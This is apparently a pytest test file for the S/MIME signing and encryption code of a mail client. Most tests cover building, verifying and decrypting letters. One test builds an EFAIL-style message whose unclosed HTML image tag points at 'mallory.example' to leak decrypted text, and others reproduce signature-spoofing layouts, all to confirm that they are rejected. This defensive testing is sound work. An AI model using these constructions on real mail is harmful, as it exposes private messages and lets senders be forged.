"""Whole letters: signed, sealed, both, three times; and what was seen in the wild."""

from __future__ import annotations

import base64
import re

import pytest

from store.errors import NeedsUser, Permanent, Transient
from store.model.draft import Attachment, Draft
from store.model.email import EmailAddress
from sync.mime.build import build
from sync.mime.protected import CIPHER, CLEAR, NONE, presented
from sync.mime.read import derive
from sync.smime import oids
from sync.smime.ber import context, der, integer, octet_string, oid, sequence
from sync.smime.capabilities import OURS
from sync.smime.evidence import CompressedEvidence, Oddity, SealedEvidence, SignedEvidence
from sync.smime.keys import SoftwareKey
from sync.smime.layers import open_letter
from sync.smime.wrap import Reader, Signing, base64_pieces, secured
from tests.refusals import refused
from tests.unit.smime.people import AT, authority_file, files, issue, openssl, person

ALICE = EmailAddress(name="Alice Martin", email="alice@cabinet.example")


def letter(**given) -> bytes:
    """A letter as Pli builds it."""
    draft = Draft(
        **{
            "sender": ALICE,
            "to": (EmailAddress(email="labo@biologie.example"),),
            "subject": "Bilan de Mme Durand : glycémie",
            "body": "Bonjour,\n\nFrom here on: 1,05 g/L.\n.\n",
        }
        | given
    )
    attachments = [b"%PDF-1.4\n" + bytes(range(256))] * len(draft.attachments)
    return build(
        draft, message_id="1@cabinet.example", date_at=AT, boundary="b0", attachments=attachments
    )


def signing(*kinds: str, **given) -> Signing:
    signers = tuple(person(kind) for kind in kinds or ("rsa",))
    return Signing(signers=signers, at=AT, boundary="s0", **given)


def made(octets: bytes, **given) -> bytes:
    return b"".join(secured(octets, **given))


def to(*kinds: str, capabilities=OURS) -> list[Reader]:
    return [Reader(person(kind).certificate, capabilities) for kind in kinds]


def kinds_of(found) -> list[str]:
    return [type(each).__name__.removesuffix("Evidence") for each in found.layers]


@pytest.mark.parametrize("opaque", [False, True])
def test_a_signed_letter_is_read_back(opaque: bool) -> None:
    octets = made(letter(), signing=signing(opaque=opaque))
    found = open_letter(octets)
    (layer,) = found.layers
    assert isinstance(layer, SignedEvidence)
    assert layer.all_verified
    assert (layer.detached, layer.oddities) == (not opaque, ())
    assert found.header.kind == CLEAR
    shown = derive(presented(octets, found.payload))
    assert (shown.subject, shown.sender) == ("Bilan de Mme Durand : glycémie", ALICE)
    assert "1,05 g/L" in shown.body


def test_a_sealed_letter_shows_nothing_outside_and_all_inside() -> None:
    octets = made(letter(), signing=signing(), readers=to("rsa", "p256"))
    assert b"Durand" not in octets
    assert octets.count(b"\r\n\r\n") == 1
    found = open_letter(octets, [person("p256")])
    assert kinds_of(found) == ["Sealed", "Signed"]
    assert found.header.kind == CIPHER
    assert found.header.hidden(b"subject")
    assert derive(presented(octets, found.payload)).subject == "Bilan de Mme Durand : glycémie"


def test_the_sender_reads_the_copy_that_is_kept() -> None:
    octets = made(letter(), readers=to("p256"), own=person("rsa").certificate)
    assert kinds_of(open_letter(octets, [person("rsa")])) == ["Sealed"]
    assert kinds_of(open_letter(octets, [person("p256")])) == ["Sealed"]


def test_the_sender_among_the_readers_is_one_reader() -> None:
    octets = made(letter(), readers=to("rsa"), own=person("rsa").certificate)
    (layer,) = open_letter(octets, [person("rsa")]).layers
    assert isinstance(layer, SealedEvidence)
    assert layer.recipients == 1


def test_what_the_reader_can_read_chooses_the_cipher() -> None:
    modern = made(letter(), readers=to("rsa"))
    unknown = made(letter(), readers=to("rsa", capabilities=None))
    assert b"smime-type=authEnveloped-data" in modern
    assert b"smime-type=enveloped-data" in unknown
    assert open_letter(unknown, [person("rsa")]).layers[0].cipher == "aes256_cbc"


def test_a_letter_neither_signed_nor_sealed_is_not_made() -> None:
    with refused(Permanent, "smime.nothing_to_do"):
        made(letter())


def test_what_cannot_be_sealed_fails_before_anything_is_written() -> None:
    signing_only = issue(person("rsa").key, "signe", digital_signature=True)
    with refused(Permanent, "smime.cannot_seal_to"):
        secured(letter(), readers=to("rsa"), own=signing_only.certificate)
    with refused(Permanent, "smime.key_cannot_sign"):
        secured(letter(), signing=signing("x25519"))


def test_openssl_reads_a_signed_letter() -> None:
    octets = made(letter(), signing=signing("p384"))
    shown = openssl("-verify", "-CAfile", authority_file(), "-purpose", "smimesign", given=octets)
    assert shown == open_letter(octets).payload


def test_openssl_reads_a_sealed_letter() -> None:
    octets = made(letter(), readers=to("rsa"))
    certificate, key = files("rsa")
    shown = openssl("-decrypt", "-recip", certificate, "-inkey", key, given=octets)
    assert shown == open_letter(octets, [person("rsa")]).payload


def test_a_letter_openssl_wrapped_three_times_opens() -> None:
    certificate, key = files("rsa")
    sign = ("-sign", "-signer", certificate, "-inkey", key)
    inner = openssl(*sign, given=b"Content-Type: text/plain\r\n\r\nBonjour\r\n")
    middle = openssl("-encrypt", "-aes-256-cbc", "-recip", certificate, given=inner)
    outer = openssl(*sign, "-nodetach", given=middle)
    found = open_letter(b"From: a@b.example\n" + outer, [person("rsa")])
    assert kinds_of(found) == ["Signed", "Sealed", "Signed"]
    assert all(each.all_verified for each in found.layers[::2])
    assert found.payload.endswith(b"\r\n\r\nBonjour\r\n")


def test_a_compressed_letter_opens() -> None:
    import zlib

    inside = zlib.compress(b"Content-Type: text/plain\r\n\r\nBonjour\r\n")
    held = sequence(
        integer(0),
        sequence(oid(oids.ZLIB)),
        sequence(oid(oids.DATA), der(context(0), octet_string(inside))),
    )
    octets = sequence(oid(oids.COMPRESSED), der(context(0), held))
    found = open_letter(p7m(octets, "application/pkcs7-mime; smime-type=compressed-data"))
    assert found.layers == (CompressedEvidence(size=37),)
    assert found.payload.endswith(b"Bonjour\r\n")


def p7m(octets: bytes, media_type: str, name: str = "smime.p7m", encoding: str = "base64") -> bytes:
    body = base64.encodebytes(octets) if encoding == "base64" else octets
    head = f"Content-Type: {media_type}; name={name}\r\nContent-Transfer-Encoding: {encoding}\r\n"
    return head.encode() + b"\r\n" + body


@pytest.mark.parametrize(
    ("media_type", "name", "encoding"),
    [
        ("application/pkcs7-mime", "smime.p7m", "base64"),
        ("application/pkcs7-mime", "smime.p7m", "binary"),
        ("application/x-pkcs7-mime", "SMIME.P7M", "base64"),
        ("application/octet-stream", "smime.p7m", "base64"),
        ("application/octet-stream", "Courrier.P7M", "base64"),
        ("application/pkcs7-mime; smime-type=signed-data", "anything.dat", "base64"),
    ],
)
def test_wrong_names_and_types_of_the_wild_open(media_type, name, encoding) -> None:
    found = open_letter(made(letter(), readers=to("rsa")), [person("rsa")])
    body = made(letter(), readers=to("rsa")).partition(b"\r\n\r\n")[2]
    octets = p7m(base64.b64decode(body), media_type, name, encoding)
    assert open_letter(octets, [person("rsa")]).payload == found.payload


def test_a_type_that_says_nothing_is_told_of_a_signature() -> None:
    opaque = made(letter(), signing=signing(opaque=True)).partition(b"\r\n\r\n")[2]
    octets = p7m(base64.b64decode(opaque), "application/octet-stream")
    (layer,) = open_letter(octets).layers
    assert isinstance(layer, SignedEvidence)
    assert layer.oddities == (Oddity.WRONG_TYPE,)


def test_a_letter_without_layers_is_itself() -> None:
    found = open_letter(letter())
    assert (found.layers, found.payload, found.header.kind) == ((), letter(), NONE)
    assert found.stopped == ""


@pytest.mark.parametrize(
    "around",
    [
        b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\n'
        b"Content-Type: text/plain\r\n\r\nPayez ici.\r\n--m\r\n%s\r\n--m--\r\n",
        b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\n%s\r\n--m--\r\n',
        b"Content-Type: message/rfc822\r\n\r\n%s",
        b'Content-Type: multipart/alternative; boundary="m"\r\n\r\n--m\r\n%s\r\n--m--\r\n',
    ],
)
def test_a_signed_part_below_anything_is_no_layer(around: bytes) -> None:
    """19 of the 25 mails of "Johnny, you are fired" count on the contrary."""
    octets = made(letter(), signing=signing())
    inner = octets[octets.index(b"Content-Type: multipart/signed") :]
    assert open_letter(around % inner).layers == ()


def test_efail_parts_around_a_sealed_one_are_no_layer() -> None:
    sealed = made(letter(), readers=to("rsa"))
    inner = sealed[sealed.index(b"Content-Type: application") :]
    octets = (
        b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n'
        b'<img src="http://mallory.example/\r\n--m\r\n' + inner + b"\r\n--m\r\n"
        b'Content-Type: text/html\r\n\r\n">\r\n--m--\r\n'
    )
    assert open_letter(octets, [person("rsa")]).layers == ()


def with_signed(change) -> list:
    octets = change(made(letter(), signing=signing()))
    return list(open_letter(octets).layers)


def test_a_third_part_is_told() -> None:
    more = b"--=_s0\r\nContent-Type: text/plain\r\n\r\nAjout\r\n--=_s0--\r\n"
    (layer,) = with_signed(lambda octets: octets.replace(b"--=_s0--\r\n", more))
    assert layer.oddities == (Oddity.MORE_THAN_TWO_PARTS,)


def test_words_put_before_the_first_part_are_never_the_letter() -> None:
    octets = made(letter(), signing=signing()).replace(
        b"\r\n\r\n--=_s0", b"\r\n\r\nPayez ici.\r\n--=_s0", 1
    )
    found = open_letter(octets)
    assert found.layers[0].all_verified
    assert b"Payez" not in found.payload


def test_a_changed_header_inside_is_a_changed_content() -> None:
    (layer,) = with_signed(
        lambda octets: b"\r\n".join(
            re.sub(b"alice@cabinet", b"mallo@cabinet", line) for line in octets.split(b"\r\n")
        )
    )
    assert not layer.all_verified


def test_a_header_changed_outside_only_does_not_reach_the_reader() -> None:
    octets = made(letter(), signing=signing()).replace(b"alice@", b"mallo@", 1)
    found = open_letter(octets)
    assert found.layers[0].all_verified
    assert found.header.get(b"from").endswith(b"<alice@cabinet.example>")
    assert derive(presented(octets, found.payload)).sender.email == "alice@cabinet.example"


def test_a_sealed_letter_to_others_tells_what_was_outside() -> None:
    sealed = made(letter(), readers=to("rsa"))
    inner = sealed[sealed.index(b"Content-Type: application") :]
    outer = made(b"Subject: s\r\n" + inner, signing=signing())
    found = open_letter(outer, [person("p256")])
    assert (kinds_of(found), found.stopped) == (["Signed"], "smime.no_key")


@pytest.mark.parametrize(
    "body", [b"not base64 at all", b"", b"MIAG", b"MIAGCSqGSIb3DQEHA6CAMIACAQA="]
)
def test_what_only_says_it_is_sealed_is_told(body: bytes) -> None:
    octets = b"Content-Type: application/pkcs7-mime; name=smime.p7m\r\n" + (
        b"Content-Transfer-Encoding: base64\r\n\r\n" + body
    )
    found = open_letter(octets)
    assert found.layers == ()
    assert found.stopped in ("smime.malformed", "smime.not_cms")


def test_openpgp_is_left_alone() -> None:
    octets = (
        b'Content-Type: multipart/signed; boundary="m"; protocol="application/pgp-signature"\r\n'
        b"\r\n--m\r\n\r\nx\r\n--m\r\nContent-Type: application/pgp-signature\r\n\r\ny\r\n--m--\r\n"
    )
    assert open_letter(octets).layers == ()
    assert open_letter(octets).stopped == ""


def test_more_layers_than_anyone_needs_are_not_opened() -> None:
    octets = letter()
    for _ in range(8):
        octets = made(octets, signing=signing("p256", opaque=True))
    found = open_letter(octets)
    assert (len(found.layers), found.stopped) == (6, "smime.too_complex")


def test_a_card_that_is_away_is_not_a_broken_letter() -> None:
    class Away(SoftwareKey):
        def decrypt(self, encrypted, padding):
            raise NeedsUser("card.absent")

    who = person("rsa")
    with refused(NeedsUser, "card.absent"):
        open_letter(made(letter(), readers=to("rsa")), [Away(who.certificate, (), who.key)])
    assert issubclass(Transient, Exception)


def test_documents_go_through_unchanged() -> None:
    attachment = Attachment(name="Bilan.pdf", media_type="application/pdf", size=265, blob_id=b"")
    octets = letter(attachments=(attachment,))
    found = open_letter(made(octets, signing=signing(), readers=to("p521")), [person("p521")])
    assert found.layers[1].all_verified
    body = octets.partition(b"\r\n\r\n")[2]
    assert found.payload.endswith(body)


@pytest.mark.parametrize("cuts", [[1, 56, 57, 58, 1000], [57 * 4 * 1024 * 2 + 1], [0, 3, 0]])
def test_base64_of_pieces_is_base64_of_the_whole(cuts: list[int]) -> None:
    pieces = [bytes([n % 256]) * size for n, size in enumerate(cuts)]
    whole = base64.encodebytes(b"".join(pieces)).replace(b"\n", b"\r\n")
    assert b"".join(base64_pieces(pieces)) == whole
